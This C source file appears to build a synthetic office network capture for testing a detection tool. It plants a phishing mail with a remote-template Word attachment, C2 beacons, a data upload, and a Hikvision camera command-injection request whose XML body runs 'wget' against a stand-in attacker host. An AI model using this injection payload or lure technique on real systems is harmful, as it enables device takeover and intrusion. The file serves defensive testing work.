/* The incident scenario: three hours of a small office (eight hosts
 * browsing, resolving through 192.168.20.1, NTP) with two intrusions:
 *   - 192.168.20.31 receives a mail whose attachment is a document with a
 *     remote template (tpl.office-updates.example), fetches that template,
 *     then beacons over TLS to sync.office-updates.example (203.0.113.66)
 *     every 4 minutes and at last uploads 25 MB to it;
 *   - camera 192.168.20.50 is exploited over HTTP from 192.0.2.77 (the
 *     Hikvision webLanguage command injection, CVE-2021-36260) and then
 *     calls out to 45.33.32.156 every 2 minutes.
 * tests/golden/incident/PLANTED.md lists what each part must produce. */
#include "scenarios.h"

#include <stdio.h>
#include <string.h>

#define OFFICE_RESOLVER "192.168.20.1"
#define VICTIM "192.168.20.31"
#define CAMERA "192.168.20.50"
#define MAIL_RELAY "198.51.100.25"
#define TEMPLATE_IP "203.0.113.80"
#define C2_IP "203.0.113.66"
#define ATTACKER "192.0.2.77"
/* not a documentation range: Zeek (and Vigil) count those as local, and a
 * device talking to a local address does not call out */
#define CAMERA_C2 "45.33.32.156"

/* Who is behind which MAC, as a switch's SPAN port shows it: every outside
 * address and the resolver behind the office router, each staff host its
 * own (locally administered) MAC, the camera a Hikvision one (44:47:cc, an
 * OUI of Hangzhou Hikvision in the IEEE registry). */
static const uint8_t router_mac[6] = {0x02, 0x20, 0x00, 0x00, 0x00, 0x01};
static const uint8_t camera_mac[6] = {0x44, 0x47, 0xcc, 0x20, 0x00, 0x50};

static void host_mac(uint8_t mac[6], const uint8_t addr[16])
{
    struct ip_pair known; /* src: the camera, dst: the router */
    ip_pair_v4(&known, CAMERA, OFFICE_RESOLVER);
    if (memcmp(addr, known.src, 4) == 0)
        memcpy(mac, camera_mac, 6);
    else if (memcmp(addr, known.dst, 3) != 0 || addr[3] == known.dst[3])
        memcpy(mac, router_mac, 6);
    else
        memcpy(mac, (const uint8_t[6]){0x02, 0x44, addr[0], addr[1], addr[2], addr[3]}, 6);
}

static void office_path(struct path *pa, const struct ip_pair *ip)
{
    memset(pa, 0, sizeof *pa);
    struct layer l = {.kind = LY_ETH};
    host_mac(l.mac_a, ip->src);
    host_mac(l.mac_b, ip->dst);
    path_push(pa, &l);
}

struct office {
    struct gen *g;
    uint64_t t0;
    uint16_t next_port;
};

static const struct web_site office_sites[] = {
    {"www.wikipedia.org", "185.15.59.224", true},      {"news.example.com", "93.184.216.34", false},
    {"www.debian.org", "151.101.2.132", true},         {"cdn.jsdelivr.net", "151.101.1.229", true},
    {"weather.example.net", "198.51.100.14", false},  {"login.microsoftonline.com", "20.190.160.1", true},
    {"github.com", "140.82.121.3", true},              {"www.gov.example", "198.51.100.80", true},
};

static uint16_t port_of(struct office *o)
{
    if (o->next_port < 40000)
        o->next_port = 40000;
    return o->next_port++;
}

static void tcp_between(struct office *o, struct tcp_flow *f, struct path *pa, struct ip_pair *ip, const char *src,
                        const char *dst, uint16_t sport, uint16_t dport, uint64_t t)
{
    ip_pair_v4(ip, src, dst);
    office_path(pa, ip);
    tcp_connect(f, o->g, pa, ip, sport, dport, t);
}

static void resolve(struct office *o, const char *client, uint64_t t, const char *name, const char *answer_ip)
{
    struct ip_pair dns, answer;
    ip_pair_v4(&dns, client, OFFICE_RESOLVER);
    ip_pair_v4(&answer, answer_ip, answer_ip);
    struct path pa;
    office_path(&pa, &dns);
    dns_exchange(o->g, &pa, &dns, port_of(o), t, name, 1, answer.src, 4);
}

/* The incident's conversations: 3 to 11 ms after each turn. */
static const struct tcp_pace CHAT_PACE = {MS(3), 8000};

static void chat(struct tcp_flow *f, int dir, const char *text)
{
    tcp_say(f, dir, text, &CHAT_PACE);
}

static void browse(struct office *o, const char *client, uint64_t t)
{
    const struct web_site *s = &office_sites[rng_below(o->g, sizeof office_sites / sizeof office_sites[0])];
    resolve(o, client, t, s->host, s->ip);
    struct ip_pair ip;
    ip_pair_v4(&ip, client, s->ip);
    struct path pa;
    office_path(&pa, &ip);
    if (s->tls)
        tls_session(o->g, &pa, &ip, port_of(o), t + MS(30), s->host, 3000 + rng_below(o->g, 40000));
    else
        http_session(o->g, &pa, &ip, port_of(o), t + MS(30), s->host, "/", 2000 + rng_below(o->g, 20000));
}

/* The attachment: a Word document (deflated OOXML) whose
 * word/_rels/settings.xml.rels names an external attachedTemplate,
 * http://tpl.office-updates.example/t.dotm, as template-injection lures do.
 * Fixed bytes, so its SHA-256 (listed in tests/golden/incident-feeds/feed.csv)
 * never changes: 7cbd9ae9b7eb1567dd78f840a416b61e31e7fc5d8464e88140ef7ec82572d3ac
 * (`vigil inspect` on it: malicious, remote-template). */
static const char attachment_base64[] =
    "UEsDBBQAAAAIAABIZFgL140i/gAAADICAAATAAAAW0NvbnRlbnRfVHlwZXNdLnhtbK2Ru04DMRRE\r\n"
    "eyT+wXIb7XqhQAhlNwWPEijCB1zZd3et+CXfm5D8Pd68ChSgobRnzszIni+23okNZrIxtPKmbqTA\r\n"
    "oKOxYWjlx/KlupeCGIIBFwO2cockF9311Xy5S0ii0IFaOTKnB6VIj+iB6pgwFKWP2QOXYx5UAr2C\r\n"
    "AdVt09wpHQNj4IqnDNnNn7CHtWPxvC3XhyUZHUnxeDBOXa2ElJzVwEVXm2C+tVTHhrqQew+NNtGs\r\n"
    "GKS62DApPxccubfyNNkaFO+Q+RV8canPmI0yUa99IevfYy7sjH1vNZ75KS3lqJGovLl39VnxYMPs\r\n"
    "rx2EzIWj/99xSj5NUPsf774AUEsDBBQAAAAIAABIZFiVb45TsgAAACsBAAALAAAAX3JlbHMvLnJl\r\n"
    "bHONzzsOwjAMBuAdiTtE3mlaBoRQky4IqSsqB4gSN61oHkrCo7cnAwNFDIy2f3+W6+ZpJnLHEEdn\r\n"
    "GVRFCQStdGq0msGlO232QGISVonJWWQwY4SGr1f1GSeR8lIcRh9JVmxkMKTkD5RGOaARsXAebZ70\r\n"
    "LhiRchk09UJehUa6LcsdDZ8G8IVJWsUgtKoC0s0e/7Fd348Sj07eDNr048RXIssiaEwMHi4oqt7t\r\n"
    "IrNAeU0XL/IXUEsDBBQAAAAIAABIZFgxPpgczgAAADkBAAARAAAAd29yZC9kb2N1bWVudC54bWxt\r\n"
    "j0FOxDAMRfdI3MHKfprCAqGq7exYspo5QGhMJ1JiR7GZMrcnqQRIiM237C8/f4/HzxThikUC02Qe\r\n"
    "ut4A0sI+0DqZ8+nl8GxA1JF3kQknc0Mxx/n+btwGz8tHQlKoCJJhm8xFNQ/WynLB5KTjjFS9dy7J\r\n"
    "aW3LajcuPhdeUKReSNE+9v2TTS6QmSvyjf2t1dykNNH5nL1T9CCOFq0pBWIQHW3zmpZd89+1E4rC\r\n"
    "T8QVCcuOqWngGtYQD3XWwSsrOCjo4o7t/uHa71z29+f5C1BLAwQUAAAACAAASGRYqzLZAbYAAAAI\r\n"
    "AQAAEQAAAHdvcmQvc2V0dGluZ3MueG1sjc/BasMwDAbg+2DvYHRfne4wRojTSxn03j2AsZXGEMtG\r\n"
    "0prt7SfYYNcdxS996J9On3Vzd2QpjQIcDwM4pNRyoVuA9+vb0ys40Ug5bo0wwBcKnObHh2kfBVVt\r\n"
    "TZwRJOMeYFXto/eSVqxRDq0jWbY0rlFt5JvfG+fOLaGIndbNPw/Di6+xEPwy/B+mLUtJeG7poyLp\r\n"
    "D8K4RbUWspYuMNuDUTWaka9Yu2XoeCw5AF/yEfw8+b8K8zdQSwMEFAAAAAgAAEhkWGZv7aLTAAAA\r\n"
    "WgEAABwAAAB3b3JkL19yZWxzL3NldHRpbmdzLnhtbC5yZWxzjZBNSwQxDIbvgv+h5L7trAcRmc5e\r\n"
    "VNiDFxl/QGgzH2y/aLMy++8NiOKCB49J3udJSH/YYlAfVNuak4W97kBRctmvabbwPr7sHkA1xuQx\r\n"
    "5EQWLtTgMNze9G8UkAVqy1qaEktqFhbm8mhMcwtFbDoXSjKZco3IUtbZFHQnnMncdd29qb8dMFw5\r\n"
    "1dFbqEe/BzVeCv3HnadpdfSU3TlS4j9WGGRG4f1IsUifxI11Jv6xcwn6S7M7Fy+JpmlDCZNh7TPH\r\n"
    "b+I1e7npeWOqCQOYoTdXHxk+AVBLAQIUABQAAAAIAABIZFgL140i/gAAADICAAATAAAAAAAAAAAA\r\n"
    "AACAAQAAAABbQ29udGVudF9UeXBlc10ueG1sUEsBAhQAFAAAAAgAAEhkWJVvjlOyAAAAKwEAAAsA\r\n"
    "AAAAAAAAAAAAAIABLwEAAF9yZWxzLy5yZWxzUEsBAhQAFAAAAAgAAEhkWDE+mBzOAAAAOQEAABEA\r\n"
    "AAAAAAAAAAAAAIABCgIAAHdvcmQvZG9jdW1lbnQueG1sUEsBAhQAFAAAAAgAAEhkWKsy2QG2AAAA\r\n"
    "CAEAABEAAAAAAAAAAAAAAIABBwMAAHdvcmQvc2V0dGluZ3MueG1sUEsBAhQAFAAAAAgAAEhkWGZv\r\n"
    "7aLTAAAAWgEAABwAAAAAAAAAAAAAAIAB7AMAAHdvcmQvX3JlbHMvc2V0dGluZ3MueG1sLnJlbHNQ\r\n"
    "SwUGAAAAAAUABQBCAQAA+QQAAAAA\r\n";

static void phishing_mail(struct office *o, uint64_t t)
{
    struct tcp_flow f;
    struct path pa;
    struct ip_pair ip;
    tcp_between(o, &f, &pa, &ip, MAIL_RELAY, VICTIM, 52525, 25, t);
    chat(&f, 1, "220 ws31.corp.example ESMTP\r\n");
    chat(&f, 0, "EHLO mail.mfa-gov.example\r\n");
    chat(&f, 1, "250-ws31.corp.example\r\n250 8BITMIME\r\n");
    static const char *const rcpts[] = {"<erin@corp.example>"};
    smtp_envelope(&f, &CHAT_PACE, "<press@mfa-gov.example>", rcpts, 1);
    char body[4096];
    int n = snprintf(body, sizeof body,
                     "From: Press Office <press@mfa-gov.example>\r\nTo: Erin <erin@corp.example>\r\n"
                     "Subject: Updated sanctions list\r\nDate: Mon, 4 Mar 2024 09:10:00 +0000\r\n"
                     "Message-ID: <20240304091000.77@mfa-gov.example>\r\nMIME-Version: 1.0\r\n"
                     "Content-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n"
                     "--b1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
                     "Please find the updated list attached.\r\n\r\n"
                     "--b1\r\nContent-Type: application/vnd.openxmlformats-officedocument.wordprocessingml.document;"
                     " name=\"sanctions_update.docx\"\r\nContent-Disposition: attachment; "
                     "filename=\"sanctions_update.docx\"\r\nContent-Transfer-Encoding: base64\r\n\r\n%s"
                     "--b1--\r\n.\r\n",
                     attachment_base64);
    if (n < 0 || (size_t)n >= sizeof body)
        return;
    tcp_send(&f, 0, (const uint8_t *)body, (size_t)n);
    tcp_wait(&f, MS(20));
    chat(&f, 1, "250 2.0.0 Ok: queued\r\n");
    chat(&f, 0, "QUIT\r\n");
    chat(&f, 1, "221 2.0.0 Bye\r\n");
    tcp_close(&f, 0);
}

static void template_fetch(struct office *o, uint64_t t)
{
    resolve(o, VICTIM, t, "tpl.office-updates.example", TEMPLATE_IP);
    struct tcp_flow f;
    struct path pa;
    struct ip_pair ip;
    tcp_between(o, &f, &pa, &ip, VICTIM, TEMPLATE_IP, port_of(o), 80, t + MS(30));
    chat(&f, 0, "GET /t.dotm HTTP/1.1\r\nHost: tpl.office-updates.example\r\n"
                "User-Agent: Microsoft Office Word 2014\r\nAccept: */*\r\n\r\n");
    static const char reply[] = "HTTP/1.1 200 OK\r\nContent-Type: application/vnd.ms-word.template.macroEnabled.12\r\n"
                                "Content-Length: 64\r\nConnection: close\r\n\r\n"
                                "PK\003\004 vigil test template with a macro stand-in, not a real one.";
    chat(&f, 1, reply);
    tcp_close(&f, 1);
}

static void implant_beacon(struct office *o, uint64_t t, unsigned checkins)
{
    resolve(o, VICTIM, t, "sync.office-updates.example", C2_IP);
    struct ip_pair ip;
    ip_pair_v4(&ip, VICTIM, C2_IP);
    struct path pa;
    office_path(&pa, &ip);
    t += MS(40);
    for (unsigned k = 0; k < checkins; k++) {
        /* drawn one by one: the order of a call's arguments is unspecified,
         * and gcc and clang differ */
        size_t reply = 700 + rng_below(o->g, 16);
        size_t request = 420 + rng_below(o->g, 8);
        tls_checkin_session(o->g, &pa, &ip, port_of(o), 443, t, "sync.office-updates.example", request, reply);
        t += SEC(216) + rng_below(o->g, 48000000);
    }
}

static void upload(struct office *o, uint64_t t, size_t bytes)
{
    struct tcp_flow f;
    struct path pa;
    struct ip_pair ip;
    tcp_between(o, &f, &pa, &ip, VICTIM, C2_IP, port_of(o), 443, t);
    uint8_t hello[1024];
    size_t n = tls_client_hello(o->g, hello, "sync.office-updates.example");
    tcp_send(&f, 0, hello, n);
    n = tls_server_hello(o->g, hello);
    tcp_send(&f, 1, hello, n);
    for (size_t sent = 0; sent < bytes; sent += 65536) {
        tcp_send_filler(&f, 0, 65536);
        tcp_wait(&f, MS(10));
    }
    tcp_close(&f, 0);
}

static void camera_exploit(struct office *o, uint64_t t)
{
    struct tcp_flow f;
    struct path pa;
    struct ip_pair ip;
    tcp_between(o, &f, &pa, &ip, ATTACKER, CAMERA, 45123, 80, t);
    chat(&f, 0, "PUT /SDK/webLanguage HTTP/1.1\r\nHost: 192.168.20.50\r\nUser-Agent: python-requests/2.31\r\n"
                "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 67\r\n\r\n"
                "<?xml version=\"1.0\"?><language>$(wget -q http://192.0.2.77/m)</language>");
    chat(&f, 1, "HTTP/1.1 500 Internal Server Error\r\nServer: App-webs/\r\nContent-Length: 0\r\n\r\n");
    tcp_close(&f, 0);
}

/* Before and after the exploit the camera does what cameras do: the
 * reception PC polls its snapshot page, it keeps its clock over NTP (an
 * outside server: allowed to cameras by data/devices/device_behaviour.tsv). */
static void camera_routine(struct office *o, uint64_t end)
{
    struct ip_pair ntp;
    ip_pair_v4(&ntp, CAMERA, "162.159.200.1");
    struct path pa;
    office_path(&pa, &ntp);
    for (uint64_t t = o->t0 + SEC(40); t < end; t += SEC(1800))
        ntp_exchange(o->g, &pa, &ntp, 123, t);
    for (uint64_t t = o->t0 + SEC(300); t < end; t += SEC(900)) {
        struct tcp_flow f;
        struct ip_pair ip;
        tcp_between(o, &f, &pa, &ip, "192.168.20.21", CAMERA, port_of(o), 80, t);
        chat(&f, 0, "GET /ISAPI/Streaming/channels/101/picture HTTP/1.1\r\nHost: 192.168.20.50\r\n"
                    "Authorization: Digest username=\"viewer\"\r\n\r\n");
        chat(&f, 1, "HTTP/1.1 200 OK\r\nServer: App-webs/\r\nContent-Type: image/jpeg\r\nContent-Length: 0\r\n\r\n");
        tcp_close(&f, 0);
    }
}

static void camera_calls_out(struct office *o, uint64_t t, unsigned checkins)
{
    struct ip_pair ip;
    ip_pair_v4(&ip, CAMERA, CAMERA_C2);
    struct path pa;
    office_path(&pa, &ip);
    for (unsigned k = 0; k < checkins; k++) {
        size_t reply = 520 + rng_below(o->g, 8);
        size_t request = 380 + rng_below(o->g, 4);
        tls_checkin_session(o->g, &pa, &ip, port_of(o), 443, t, "", request, reply);
        t += SEC(114) + rng_below(o->g, 12000000);
    }
}

bool scenario_incident(struct gen *g)
{
    if (add_ethernet_iface(g, 65535) != 0)
        return false;
    struct office o = {g, GEN_BASE_TIME_US, 40000};
    static const char *const staff[] = {"192.168.20.21", "192.168.20.22", "192.168.20.23", "192.168.20.24",
                                        "192.168.20.25", "192.168.20.26", "192.168.20.27", "192.168.20.28",
                                        VICTIM};
    const uint64_t hours = 3, end = o.t0 + SEC(hours * 3600);
    for (size_t i = 0; i < sizeof staff / sizeof staff[0]; i++) {
        struct ip_pair ip;
        ip_pair_v4(&ip, staff[i], OFFICE_RESOLVER);
        struct path pa;
        office_path(&pa, &ip);
        for (uint64_t t = o.t0 + SEC(5 + 7 * i); t < end; t += SEC(1800))
            ntp_exchange(g, &pa, &ip, 123, t);
        for (uint64_t t = o.t0 + SEC(20 + 11 * i); t < end; t += SEC(60) + rng_below(g, 600000000))
            browse(&o, staff[i], t);
    }
    phishing_mail(&o, o.t0 + SEC(600));
    template_fetch(&o, o.t0 + SEC(780));
    implant_beacon(&o, o.t0 + SEC(900), 36);
    upload(&o, o.t0 + SEC(9300), 25u << 20);
    camera_routine(&o, end);
    camera_exploit(&o, o.t0 + SEC(1800));
    camera_calls_out(&o, o.t0 + SEC(2100), 70);
    return true;
}
